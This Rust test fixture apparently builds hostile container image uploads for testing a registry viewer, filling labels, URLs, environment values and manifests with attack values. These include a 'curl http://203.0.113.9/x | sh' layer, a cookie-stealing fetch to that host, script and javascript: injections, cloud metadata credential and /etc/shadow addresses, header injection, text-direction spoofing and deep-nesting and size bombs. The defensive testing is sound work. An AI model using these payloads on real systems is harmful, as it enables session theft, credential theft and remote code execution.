//! The hostile images: everything that a person with push permission can put where others will see it.
//!
//! A registry stores what it is given. A program that shows it must not run the markup, follow the addresses, trust
//! the sizes or recurse as deep as the nesting.

use std::collections::BTreeMap;
use std::io;

use serde_json::{Value, json};
use time::{Duration, OffsetDateTime};

use super::super::content::{
    Blob, Format, Layer, Manifest, Package, Recipe, index_of_descriptors, media_type,
};

/// The depth of the nested config: more than a recursive reader can usually handle.
const NESTING: usize = 2_000;

/// The length of the long environment value, in bytes.
const LONG_VALUE: usize = 256 * 1024;

/// A package and its tag.
pub struct Upload {
    /// The tag.
    pub tag: &'static str,
    /// The package.
    pub package: Package,
}

/// All hostile uploads. The index comes after the images that it points at.
///
/// # Errors
/// If a layer cannot be packed.
pub fn uploads(now: OffsetDateTime) -> io::Result<Vec<Upload>> {
    let created = now - Duration::days(12);
    let layer = Layer::of_files(
        "RUN curl http://203.0.113.9/x | sh",
        &[("tmp/x", b"#!/bin/sh\n")],
    )?;
    let recipe = Recipe::new(Format::Oci, "amd64", created, vec![layer]);
    let markup = markup(recipe.clone());
    let index = index_with_addresses(&markup.manifest);
    Ok(vec![
        Upload {
            tag: "markup",
            package: markup,
        },
        Upload {
            tag: "addresses",
            package: addresses(&recipe),
        },
        Upload {
            tag: "huge-value",
            package: huge_value(recipe.clone()),
        },
        Upload {
            tag: "deep",
            package: deep(recipe.clone()),
        },
        Upload {
            tag: "no-config-shape",
            package: recipe
                .clone()
                .build_with_config(&json!(["not", "an", "object"]))
                .package,
        },
        Upload {
            tag: "wrong-sizes",
            package: wrong_sizes(&recipe),
        },
        Upload {
            tag: "index",
            package: index,
        },
    ])
}

/// Markup in every text that a page would show, and characters that reverse the reading direction.
fn markup(mut recipe: Recipe) -> Package {
    let hostile = [
        (
            "org.opencontainers.image.title",
            "<script>alert(document.cookie)</script>",
        ),
        (
            "org.opencontainers.image.description",
            "<img src=x onerror=\"fetch('http://203.0.113.9/'+document.cookie)\">",
        ),
        ("org.opencontainers.image.url", "javascript:alert(1)"),
        (
            "org.opencontainers.image.source",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        ),
        (
            "org.opencontainers.image.documentation",
            "file:///etc/passwd",
        ),
        (
            "org.opencontainers.image.vendor",
            "\u{202e}reliateR\u{202c}\u{200b}",
        ),
        (
            "org.opencontainers.image.licenses",
            "\"><svg onload=alert(1)>",
        ),
        (
            "</td></tr></table><h1>",
            "the key, too, is the author's to choose",
        ),
        ("__proto__", "{\"polluted\":true}"),
    ];
    recipe.labels = hostile
        .iter()
        .map(|&(key, value)| (key.to_owned(), value.to_owned()))
        .collect();
    recipe.annotations = recipe.labels.clone();
    recipe.user = "<b>root</b>".to_owned();
    recipe.entrypoint = vec![
        "/bin/sh".to_owned(),
        "-c".to_owned(),
        "echo '</code><script>alert(2)</script>'".to_owned(),
    ];
    recipe
        .env
        .push("GREETING=\u{1b}[31mred\u{1b}[0m\r\nSet-Cookie: stolen=1".to_owned());
    recipe.build().package
}

/// Layers whose foreign URLs point at the host's own files, its metadata service, or a script.
fn addresses(recipe: &Recipe) -> Package {
    let package = recipe.clone().build().package;
    with_manifest(package, |manifest| {
        manifest["layers"][0]["urls"] = json!([
            "javascript:alert(3)",
            "http://169.254.169.254/latest/api/token",
            "file:///proc/self/environ",
            "http://[::1]:8080/internal",
            "https://user:secret@registry.retailer.example/layer",
        ]);
    })
}

fn huge_value(mut recipe: Recipe) -> Package {
    recipe
        .env
        .push(format!("PADDING={}", "A".repeat(LONG_VALUE)));
    recipe.labels = BTreeMap::from([("padding".to_owned(), "\u{4e2d}".repeat(LONG_VALUE / 16))]);
    recipe.build().package
}

/// A config with an unknown member that contains deeply nested lists.
fn deep(recipe: Recipe) -> Package {
    let config = recipe.config().to_string();
    let nested = format!("{}{}", "[".repeat(NESTING), "]".repeat(NESTING));
    // Written as text: the depth is more than a JSON library can build or parse.
    let config = Blob::new(config.replacen('{', &format!("{{\"nested\":{nested},"), 1));
    let mut package = recipe.build().package;
    package.blobs[0] = config.clone();
    with_manifest(package, |manifest| {
        manifest["config"] = config.descriptor(media_type::OCI_CONFIG);
    })
}

/// A manifest that claims a size for its only layer that is larger than any disk.
fn wrong_sizes(recipe: &Recipe) -> Package {
    let package = recipe.clone().build().package;
    with_manifest(package, |manifest| {
        manifest["layers"][0]["size"] = json!(i64::MAX)
    })
}

/// An index whose entry contains addresses and markup.
fn index_with_addresses(child: &Manifest) -> Package {
    let mut descriptor = child.descriptor();
    descriptor["platform"] =
        json!({"architecture": "<i>amd64</i>", "os": "linux", "variant": "\u{202e}8v"});
    descriptor["urls"] = json!(["javascript:alert(4)", "file:///etc/shadow"]);
    descriptor["annotations"] =
        json!({"org.opencontainers.image.ref.name": "<script>alert(5)</script>"});
    index_of_descriptors(Format::Oci, &[descriptor]).into()
}

fn with_manifest(package: Package, change: impl FnOnce(&mut Value)) -> Package {
    let mut value = serde_json::from_slice(&package.manifest.blob.bytes).unwrap_or_default();
    change(&mut value);
    Package {
        manifest: Manifest::new(package.manifest.media_type, &value),
        blobs: package.blobs,
    }
}
